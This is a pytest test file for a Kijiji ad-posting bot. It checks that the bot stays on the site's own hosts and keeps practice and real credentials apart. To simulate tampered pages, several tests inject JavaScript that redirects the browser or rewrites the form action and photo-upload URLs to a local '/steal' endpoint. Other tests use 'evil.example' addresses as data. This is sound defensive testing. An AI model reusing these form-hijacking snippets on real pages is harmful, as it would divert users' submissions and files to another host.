"""A signed-in browser stays on the site's own hosts, and credentials of one site never get to the other."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from contextlib import ExitStack
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import keyring
import pytest
from on_each_page import on_each_page
from other_site import PICTURES
from selenium.webdriver.remote.webdriver import WebDriver

from xlkijiji import practice as practice_room
from xlkijiji.errors import BatchStopped, ForeignPage, SettingsError
from xlkijiji.kijiji.credentials import PRACTICE_ACCOUNT, PRACTICE_PASSWORD, SERVICE
from xlkijiji.kijiji.my_ads import own_address
from xlkijiji.kijiji_bot import KijijiBot
from xlkijiji.practice import DEFAULT_ACCOUNTS, PracticeSite

((USER, PASSWORD),) = DEFAULT_ACCOUNTS.items()
ROW = {
    "sku": "BT7",
    "title": "Bucket truck of 2016",
    "description": "With an aerial lift.",
    "price": 5,
    "category": "339",
    "photos": PICTURES[0],
    "year": 2016,
    "kilometers": 5,
    "location": "M5V 3L9",
}


class _Foreign(BaseHTTPRequestHandler):
    """A page of somebody else's that looks like the form."""

    asked: list[str]

    def _answer(self) -> None:
        self.asked.append(f"{self.command} {self.path}")
        body = b"<input id='postad-title'><textarea id='pstad-descrptn'></textarea><input id='username'>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(body)

    do_GET = do_POST = _answer  # noqa: N815 — the server's own names

    def log_message(self, *_given: Any) -> None:
        """Say nothing."""


@pytest.fixture
def foreign() -> Iterator[tuple[str, list[str]]]:
    """Another host, which isn't the site's: its address, and what it was asked."""
    _Foreign.asked = []
    # with a thread for each connection: a browser opens some that it may never use
    server = ThreadingHTTPServer(("127.0.0.2", 0), _Foreign)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.2:{server.server_port}", _Foreign.asked
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def bot(practice: PracticeSite, driver: WebDriver, pictures: Path) -> KijijiBot:
    """A bot that is signed in."""
    bot = KijijiBot(
        USER, PASSWORD, base_url=practice.url, images_dir=pictures, driver=driver, page_timeout=6, confirm_timeout=4
    )
    assert bot.login()
    return bot


def _leads(path: str, target: str) -> str:
    return f"if (location.pathname.startsWith('{path}')) location.replace('{target}/x')"


@pytest.mark.parametrize("path", ["/m-my-ads/", "/p-post-ad.html"])
def test_a_page_that_leads_elsewhere_ends_the_run_and_nothing_is_typed_there(
    practice: PracticeSite, driver: WebDriver, bot: KijijiBot, foreign: tuple[str, list[str]], path: str
) -> None:
    before = practice.ads()
    with on_each_page(driver, _leads(path, foreign[0])), pytest.raises(BatchStopped, match=r"'127\.0\.0\.2'"):
        bot.post_ad(ROW)
    assert {line for line in foreign[1] if "favicon" not in line} == {"GET /x"}
    assert practice.ads() == before


def test_a_form_that_would_be_sent_elsewhere_is_not_sent(
    practice: PracticeSite, driver: WebDriver, bot: KijijiBot, foreign: tuple[str, list[str]]
) -> None:
    before = practice.ads()
    spoil = f"""addEventListener("load", () => {{
      const form = document.getElementById("PostAdMainForm");
      const list = document.getElementById("MediaUploadedImages");
      // only once the photos are handed over, before which the form is looked at too
      const change = () => {{ if (list.querySelector("li.thumbnail")) form.action = "{foreign[0]}/steal"; }};
      if (list) new MutationObserver(change).observe(list, {{ subtree: true, attributes: true }});
    }})"""
    with on_each_page(driver, spoil), pytest.raises(ForeignPage, match=r"sent to '127\.0\.0\.2'"):
        bot.post_ad(ROW)
    assert foreign[1] == []
    assert practice.ads() == before


@pytest.mark.parametrize(
    "spoil",
    [
        "input.form.setAttribute('action', '{}/steal')",
        "input.dataset.url = '{}/steal'",
        "input.parentElement.dataset.uploadUrl = '{}/steal'.replace('http:', '')",
        "input.form.dataset.imageUploadEndpoint = '{}/steal'",
    ],
    ids=["the form's", "the field's", "around the field", "the form's data"],
)
def test_photos_that_would_go_elsewhere_are_not_handed_over(
    practice: PracticeSite, driver: WebDriver, bot: KijijiBot, foreign: tuple[str, list[str]], spoil: str
) -> None:
    before = practice.ads()
    source = f"""addEventListener("load", () => {{
      const input = document.querySelector("input[type=file]");
      if (input) {spoil.format(foreign[0])};
    }})"""
    with on_each_page(driver, source), pytest.raises(ForeignPage, match=r"photos would be sent to '127\.0\.0\.2'"):
        bot.post_ad(ROW)
    assert driver.execute_script("return document.querySelectorAll('li.thumbnail').length") == 0
    assert (foreign[1], practice.ads()) == ([], before)


def test_data_about_other_things_keeps_no_photo_back(practice: PracticeSite, driver: WebDriver, bot: KijijiBot) -> None:
    source = """addEventListener("load", () => {
      const input = document.querySelector("input[type=file]");
      if (!input) return;
      input.dataset.uploadUrl = "/p-upload-image.html";
      input.form.dataset.uploadText = "Send your photos";
      input.form.dataset.thumbnailHost = "https://pictures.example.com/";
    })"""
    with on_each_page(driver, source):
        result = bot.post_ad(ROW)
    assert result["success"], result
    assert len(practice.ads()[-1]["photos"]) == 1


def test_a_click_that_leads_elsewhere_is_settled_under_my_ads(
    practice: PracticeSite, driver: WebDriver, bot: KijijiBot, foreign: tuple[str, list[str]]
) -> None:
    count = len(practice.ads())
    with on_each_page(driver, _leads("/v-", foreign[0])):
        result = bot.post_ad(ROW)
    assert result["success"], result
    assert result["ad_url"].startswith(practice.url)
    assert len(practice.ads()) == count + 1


def test_a_click_after_which_every_page_leads_elsewhere_leaves_the_row_unsure(
    practice: PracticeSite, driver: WebDriver, bot: KijijiBot, foreign: tuple[str, list[str]]
) -> None:
    count = len(practice.ads())
    source = _leads("/v-", foreign[0]) + ";" + _leads("/m-my-ads/", foreign[0])
    with ExitStack() as from_the_click_on:

        def lead_away() -> None:
            from_the_click_on.enter_context(on_each_page(driver, source))

        result = bot.post_ad(ROW, before_submit=lead_away)
    assert (result["success"], result["error_kind"]) == (False, "unknown")
    assert len(practice.ads()) == count + 1


@pytest.mark.parametrize(
    ("url", "believed"),
    [
        ("https://www.kijiji.ca/v-cars/here/thing/123?siteLocale=en", "https://www.kijiji.ca/v-cars/here/thing/123"),
        ("/v-cars/here/thing/123", "https://www.kijiji.ca/v-cars/here/thing/123"),
        ("https://evil.example/v-cars/here/thing/123", ""),
        ("http://www.kijiji.ca/v-cars/here/thing/123", ""),
        ("//evil.example/v-cars/123", ""),
        ("", ""),
    ],
)
def test_an_ads_address_is_believed_on_the_sites_own_hosts_only(url: str, believed: str) -> None:
    assert own_address(url, "https://www.kijiji.ca") == believed


# --- credentials


def test_the_practice_account_is_the_practice_sites() -> None:
    assert dict(practice_room.DEFAULT_ACCOUNTS) == {PRACTICE_ACCOUNT: PRACTICE_PASSWORD}


@pytest.mark.parametrize(
    ("user", "password"),
    [(USER, "x"), (USER.upper(), None), ("me@example.com", PASSWORD)],
    ids=["user", "case", "word"],
)
def test_what_belongs_to_practice_is_refused_on_the_real_site(user: str, password: str | None) -> None:
    with pytest.raises(SettingsError, match="practice"):
        KijijiBot(user, password)
    KijijiBot("me@example.com", "x")


def test_a_password_that_is_kept_for_kijiji_is_not_typed_into_a_site_on_this_computer(
    practice: PracticeSite, driver: WebDriver, bot: KijijiBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    bot.logout()
    kept = {(SERVICE, "me@example.com"): "kept for Kijiji"}
    monkeypatch.setattr(keyring, "get_password", lambda service, account: kept.get((service, account)))
    with pytest.raises(SettingsError, match="kept for your Kijiji account"):
        KijijiBot("me@example.com", "kept for Kijiji", base_url=practice.url, driver=driver).login()
    # another password of the same account is not known to be the real one, and the site refuses it
    other = KijijiBot("me@example.com", "something else", base_url=practice.url, driver=driver, page_timeout=6)
    assert not other.login()
